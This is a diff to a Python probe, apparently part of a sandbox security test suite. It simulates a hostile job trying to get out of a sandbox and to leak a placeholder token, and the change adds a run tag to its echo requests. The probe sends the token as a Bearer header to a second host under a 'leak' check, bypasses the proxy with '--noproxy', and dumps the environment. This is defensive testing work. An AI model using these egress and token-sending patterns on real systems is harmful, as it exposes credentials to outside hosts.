@@ -1,6 +1,7 @@
 """Runs INSIDE a sandbox (python3 -c): tries every way out and every place a real value could
 be, and prints one JSON object. It knows only what a hostile job knows: its environment (the
-placeholder), the proxy settings, and the target given in argv: HOST PORT OTHER_HOST."""
+placeholder), the proxy settings, and the target given in argv: HOST PORT OTHER_HOST TAG (TAG
+goes into every request, so the host finds this run's requests among other tests')."""
 
 import json
 import os
@@ -8,7 +9,7 @@ import socket
 import subprocess
 import sys
 
-host, port, other = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+host, port, other, tag = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
 ph = os.environ.get("SBX_TOKEN", "")
 out = {"placeholder": ph, "env": dict(os.environ)}
 
@@ -50,10 +51,10 @@ out["udp_dns"] = attempt(
     )
 )
 out["noproxy"] = curl(
-    "--noproxy", "*", "-H", f"Authorization: Bearer {ph}", f"https://{host}:{port}/echo"
+    "--noproxy", "*", "-H", f"Authorization: Bearer {ph}", f"https://{host}:{port}/echo?t={tag}"
 )
-out["via_proxy"] = curl("-H", f"Authorization: Bearer {ph}", f"https://{host}:{port}/echo")
-out["leak"] = curl("-H", f"Authorization: Bearer {ph}", f"https://{other}:{port}/echo")
+out["via_proxy"] = curl("-H", f"Authorization: Bearer {ph}", f"https://{host}:{port}/echo?t={tag}")
+out["leak"] = curl("-H", f"Authorization: Bearer {ph}", f"https://{other}:{port}/echo?t={tag}")
 
 
 def control_on_run_socket():
